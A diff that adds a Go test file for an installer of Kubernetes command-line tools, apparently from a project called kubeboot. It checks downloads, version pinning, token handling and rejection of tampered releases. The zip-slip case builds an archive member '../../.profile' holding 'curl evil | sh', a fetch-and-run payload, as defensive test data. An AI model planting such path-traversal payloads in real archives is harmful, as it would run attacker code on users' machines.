@@ -1,0 +1,335 @@
+package bootstrap
+
+import (
+	"context"
+	"errors"
+	"io/fs"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/kubeboot/kubeboot/bootstrap/catalog"
+	"github.com/kubeboot/kubeboot/bootstrap/internal/exeinstall"
+	"github.com/kubeboot/kubeboot/bootstrap/sigstore"
+	"github.com/kubeboot/kubeboot/internal/testutil"
+	"github.com/kubeboot/kubeboot/internal/upstream"
+)
+
+// toolClient is a client reading o's mirror root and GitHub API.
+func toolClient(t *testing.T, o *upstream.Origin, opts Options) *Client {
+	t.Helper()
+	opts.MirrorRoot = o.Root()
+	opts.GitHubAPIURL = o.APIURL()
+	opts.RetryBackoff = time.Millisecond
+	opts.StallTimeout = 2 * time.Second
+	opts.NoDigestCache = true
+	opts.Logf = t.Logf
+	c, err := New(opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c
+}
+
+// downloadable lists the catalogue's tools that InstallTool downloads
+// itself (kubectl goes through Install).
+func downloadable() []*catalog.Tool {
+	var tools []*catalog.Tool
+	for _, tool := range catalog.All() {
+		if tool.Delegate == "" && tool.Name != "kubectl" {
+			tools = append(tools, tool)
+		}
+	}
+	return tools
+}
+
+// platformsOf are the platforms a test installs a tool for: this host's
+// when the tool has it, and Windows' archive or .exe.
+func platformsOf(tool *catalog.Tool) []catalog.Platform {
+	var ps []catalog.Platform
+	if h := (catalog.Platform{OS: host.OS, Arch: host.Arch}); tool.Supports(h) {
+		ps = append(ps, h)
+	}
+	if w := (catalog.Platform{OS: "windows", Arch: "amd64"}); w != ps[0] {
+		ps = append(ps, w)
+	}
+	return ps
+}
+
+func TestInstallToolEveryTool(t *testing.T) {
+	for _, tool := range downloadable() {
+		for _, p := range platformsOf(tool) {
+			t.Run(tool.Name+"/"+p.String(), func(t *testing.T) {
+				o := upstream.Start(t)
+				old := o.Publish(t, tool, "v1.2.3", p, []byte("program 1.2.3 of "+tool.Name), false, nil)
+				pub := o.Publish(t, tool, "v1.3.0", p, []byte("program 1.3.0 of "+tool.Name), true, nil)
+				c := toolClient(t, o, Options{})
+				dir := filepath.Join(testutil.TempDir(t), "bin [x] ü")
+				plat := Platform{p.OS, p.Arch}
+				res, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: plat})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if res.Version != "v1.3.0" || !res.Changed || res.Path != filepath.Join(dir, pub.Artifact.Program) || res.SHA256 != sha(pub.Program) || res.FileSHA256 != sha(pub.File) {
+					t.Fatalf("result %+v", res)
+				}
+				if len(res.Evidence) != len(tool.Evidence) || res.Evidence[0].Kind != tool.Evidence[0].Kind || res.Evidence[0].Whose == "" {
+					t.Errorf("evidence %+v, want %+v", res.Evidence, tool.Evidence)
+				}
+				assertOnlyFile(t, dir, pub.Artifact.Program, pub.Program)
+				if fi, _ := os.Stat(res.Path); p.OS != "windows" && fi.Mode().Perm()&0o100 == 0 {
+					t.Errorf("%s is not executable: %v", res.Path, fi.Mode())
+				}
+
+				again, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: plat, Version: "latest"})
+				if err != nil || again.Changed {
+					t.Fatalf("a rerun: %+v, %v", again, err)
+				}
+				back, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: plat, Version: "1.2.3"})
+				if err != nil || !back.Changed || back.Version != "v1.2.3" {
+					t.Fatalf("an exact version: %+v, %v", back, err)
+				}
+				assertOnlyFile(t, dir, old.Artifact.Program, old.Program)
+			})
+		}
+	}
+}
+
+// TestInstallToolAttacks serves, for every tool, each way its file or its
+// evidence can lie; every one is a verification error with the folder's
+// previous program untouched and no temp file left.
+func TestInstallToolAttacks(t *testing.T) {
+	type attack struct {
+		name  string
+		apply func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published)
+		// members replaces the archive's members (archive tools only).
+		members func(a catalog.Artifact, program []byte) []upstream.Member
+		want    error
+	}
+	attacks := []attack{
+		{name: "checksum mismatch", want: ErrChecksumMismatch, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
+			swapped := slices.Clone(pub.File)
+			swapped[len(swapped)-1] ^= 1
+			o.Put(pub.Artifact.URL, swapped)
+		}},
+		{name: "evidence withheld", want: ErrEvidenceMissing, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
+			for _, pr := range pub.Artifact.Proofs {
+				if pr.Kind == catalog.GitHubAssetDigest {
+					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "")
+				} else {
+					o.Remove(pr.At)
+				}
+			}
+		}},
+		{name: "API digest mismatch", want: ErrChecksumMismatch, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
+			for _, pr := range pub.Artifact.Proofs {
+				if pr.Kind == catalog.GitHubAssetDigest {
+					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "sha256:"+sha([]byte("another file")))
+				}
+			}
+		}},
+		{name: "malformed digest", want: ErrBadDigest, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
+			for _, pr := range pub.Artifact.Proofs {
+				if pr.Kind == catalog.GitHubAssetDigest {
+					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "md5:abc")
+				} else {
+					o.Put(pr.At, []byte("<html>not found</html>"))
+				}
+			}
+		}},
+		{name: "zip-slip member", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
+			return []upstream.Member{{Name: a.Member, Body: program}, {Name: "../../.profile", Body: []byte("curl evil | sh")}}
+		}},
+		{name: "two programs of that name", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
+			return []upstream.Member{{Name: a.Member, Body: program}, {Name: a.Member, Body: []byte("evil")}}
+		}},
+		{name: "program elsewhere in the archive", want: ErrVerification, members: func(a catalog.Artifact, program []byte) []upstream.Member {
+			return []upstream.Member{{Name: "other/" + a.Program, Body: program}}
+		}},
+		{name: "version redirect to another host", want: ErrBadMarker, apply: func(o *upstream.Origin, tool *catalog.Tool, pub upstream.Published) {
+			evil := httptest.NewServer(http.NotFoundHandler())
+			evil.Close()
+			o.Redirect(tool.Versions.URL, catalog.Mirrored(evil.URL, strings.TrimSuffix(tool.Versions.URL, "latest")+"tag/"+pub.Artifact.Version))
+		}},
+	}
+	for _, tool := range downloadable() {
+		for _, p := range platformsOf(tool) {
+			for _, at := range attacks {
+				a, _ := tool.Artifact("v1.3.0", p)
+				hasAPI := a.Proofs[0].Kind == catalog.GitHubAssetDigest
+				switch {
+				case at.members != nil && a.Archive == catalog.Raw,
+					at.name == "API digest mismatch" && !hasAPI,
+					at.name == "version redirect to another host" && tool.Versions.Kind != catalog.VersionReleaseRedirect:
+					continue // does not apply
+				}
+				t.Run(tool.Name+"/"+p.String()+"/"+at.name, func(t *testing.T) {
+					o := upstream.Start(t)
+					program := []byte("program of " + tool.Name)
+					var members []upstream.Member
+					if at.members != nil {
+						members = at.members(a, program)
+					}
+					pub := o.Publish(t, tool, "v1.3.0", p, program, true, members)
+					if at.apply != nil {
+						at.apply(o, tool, pub)
+					}
+					dir := testutil.TempDir(t)
+					previous := []byte("the program that was there")
+					os.WriteFile(filepath.Join(dir, a.Program), previous, 0o755)
+					c := toolClient(t, o, Options{})
+					res, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: Platform{p.OS, p.Arch}})
+					if !errors.Is(err, at.want) || !errors.Is(err, ErrVerification) {
+						t.Fatalf("got %+v, %v; want %v (a verification error)", res, err, at.want)
+					}
+					if errors.Is(err, fs.ErrNotExist) {
+						t.Errorf("a lie is not 'not published': %v", err)
+					}
+					assertOnlyFile(t, dir, a.Program, previous)
+				})
+			}
+		}
+	}
+}
+
+func TestInstallToolNotPublished(t *testing.T) {
+	for _, tool := range downloadable() {
+		t.Run(tool.Name, func(t *testing.T) {
+			o := upstream.Start(t)
+			p := platformsOf(tool)[0]
+			o.Publish(t, tool, "v1.3.0", p, []byte("program"), true, nil)
+			c := toolClient(t, o, Options{})
+			dir := testutil.TempDir(t)
+			_, err := c.InstallTool(context.Background(), ToolRequest{Tool: tool.Name, Dir: dir, Platform: Platform{p.OS, p.Arch}, Version: "v9.9.9"})
+			if !errors.Is(err, fs.ErrNotExist) || errors.Is(err, ErrVerification) {
+				t.Fatalf("a version that does not exist: %v, want fs.ErrNotExist and no verification error", err)
+			}
+			if entries, _ := os.ReadDir(dir); len(entries) > 1 || (len(entries) == 1 && entries[0].Name() != exeinstall.LockName) {
+				t.Errorf("left %v", entries)
+			}
+		})
+	}
+}
+
+func TestInstallToolRefusals(t *testing.T) {
+	o := upstream.Start(t)
+	c := toolClient(t, o, Options{})
+	ctx := context.Background()
+	_, err := c.InstallTool(ctx, ToolRequest{Tool: "gke-gcloud-auth-plugin", Dir: t.TempDir()})
+	if !errors.Is(err, ErrDelegated) || !strings.Contains(err.Error(), "gcloud components install gke-gcloud-auth-plugin") {
+		t.Errorf("gke-gcloud-auth-plugin: %v", err)
+	}
+	if _, err = c.InstallTool(ctx, ToolRequest{Tool: "kubelogin"}); !errors.Is(err, ErrUnknownTool) || !strings.Contains(err.Error(), "azure-kubelogin") {
+		t.Errorf("kubelogin, which means two tools: %v", err)
+	}
+	if _, err = c.InstallTool(ctx, ToolRequest{Tool: "helm", Version: "v1.2", Dir: t.TempDir()}); !errors.Is(err, ErrInvalidVersionSpec) {
+		t.Errorf("a bad version: %v", err)
+	}
+	if _, err = c.InstallTool(ctx, ToolRequest{Tool: "virtctl", Platform: Platform{"windows", "arm64"}, Dir: t.TempDir()}); !errors.Is(err, ErrUnsupportedPlatform) {
+		t.Errorf("an unpublished platform: %v", err)
+	}
+	if len(o.Requests()) != 0 {
+		t.Errorf("refusals asked the network: %v", o.Requests())
+	}
+}
+
+// TestHelmLines reads helm's v3 line from its own marker, asked with a
+// cache-busting query each time.
+func TestHelmLines(t *testing.T) {
+	o := upstream.Start(t)
+	p := platformsOf(catalog.Helm())[0]
+	o.Publish(t, catalog.Helm(), "v4.0.1", p, []byte("helm 4"), true, nil)
+	o.Publish(t, catalog.Helm(), "v3.19.2", p, []byte("helm 3"), false, nil)
+	o.Put("https://get.helm.sh/helm3-latest-version", []byte("v3.19.2"))
+	var queries []string
+	c := toolClient(t, o, Options{HTTPClient: &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
+		if strings.HasSuffix(r.URL.Path, "-latest-version") {
+			queries = append(queries, r.URL.RawQuery)
+		}
+		return http.DefaultTransport.RoundTrip(r)
+	})}})
+	for _, tt := range []struct{ spec, want string }{{"3", "v3.19.2"}, {"", "v4.0.1"}, {"v3", "v3.19.2"}} {
+		res, err := c.InstallTool(context.Background(), ToolRequest{Tool: "helm", Version: tt.spec, Dir: t.TempDir(), Platform: Platform{p.OS, p.Arch}})
+		if err != nil || res.Version != tt.want {
+			t.Fatalf("helm %q: %+v, %v", tt.spec, res, err)
+		}
+	}
+	if len(queries) != 3 || queries[0] == "" || queries[0] == queries[1] || queries[1] == queries[2] {
+		t.Errorf("marker queries %q, want a fresh one each time", queries)
+	}
+}
+
+type roundTripFunc func(*http.Request) (*http.Response, error)
+
+func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
+
+// TestGitHubTokenOnlyToTheAPI sends the token with the API request for
+// virtctl's digest and with no request to the mirror.
+func TestGitHubTokenOnlyToTheAPI(t *testing.T) {
+	o := upstream.Start(t)
+	p := platformsOf(catalog.Virtctl())[0]
+	o.Publish(t, catalog.Virtctl(), "v1.6.0", p, []byte("virtctl"), true, nil)
+	const token = "ghp_secret123"
+	var withToken, without []string
+	c := toolClient(t, o, Options{GitHubToken: token, HTTPClient: &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
+		if r.Header.Get("Authorization") == "Bearer "+token {
+			withToken = append(withToken, r.URL.Host)
+		} else {
+			without = append(without, r.URL.Host)
+		}
+		return http.DefaultTransport.RoundTrip(r)
+	})}})
+	var logs strings.Builder
+	c.opts.Logf = func(f string, a ...any) { logs.WriteString(f) }
+	res, err := c.InstallTool(context.Background(), ToolRequest{Tool: "virtctl", Dir: t.TempDir(), Platform: Platform{p.OS, p.Arch}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	api := strings.TrimPrefix(o.API.URL, "http://")
+	if len(withToken) != 1 || withToken[0] != api || slices.Contains(without, api) || len(without) < 2 {
+		t.Errorf("token sent to %v, not to %v; want the API host %s only", withToken, without, api)
+	}
+	if strings.Contains(logs.String()+res.URL+res.Evidence[0].URL, token) {
+		t.Error("the token leaked into logs or the result")
+	}
+	if !strings.Contains(res.Evidence[0].Whose, "GitHub") {
+		t.Errorf("virtctl's evidence does not say it is GitHub's word: %q", res.Evidence[0].Whose)
+	}
+}
+
+// TestKubectlEntry keeps the catalogue's kubectl entry and Install in
+// step: the same platforms, files and signer.
+func TestKubectlEntry(t *testing.T) {
+	k := catalog.Kubectl()
+	var ps []Platform
+	for _, p := range k.Platforms {
+		ps = append(ps, Platform{p.OS, p.Arch})
+	}
+	if !slices.Equal(ps, KubectlPlatforms) {
+		t.Errorf("catalogue platforms %v, Install's %v", ps, KubectlPlatforms)
+	}
+	c, err := New(Options{NoDigestCache: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range KubectlPlatforms {
+		a, _ := k.Artifact("v1.36.4", catalog.Platform{OS: p.OS, Arch: p.Arch})
+		if want := c.KubectlURL("v1.36.4", p); a.URL != want || a.Proofs[0].At != want+".sha256" || a.Proofs[1].At != want+".sig" {
+			t.Errorf("%s: catalogue %s %v, Install %s", p, a.URL, a.Proofs, want)
+		}
+	}
+	var signer *sigstore.Policy
+	for _, e := range k.Evidence {
+		if e.Kind == catalog.Sigstore {
+			signer = e.Signer
+		}
+	}
+	if signer == nil || *signer != sigstore.KubernetesRelease {
+		t.Errorf("catalogue signer %+v, want %+v", signer, sigstore.KubernetesRelease)
+	}
+}
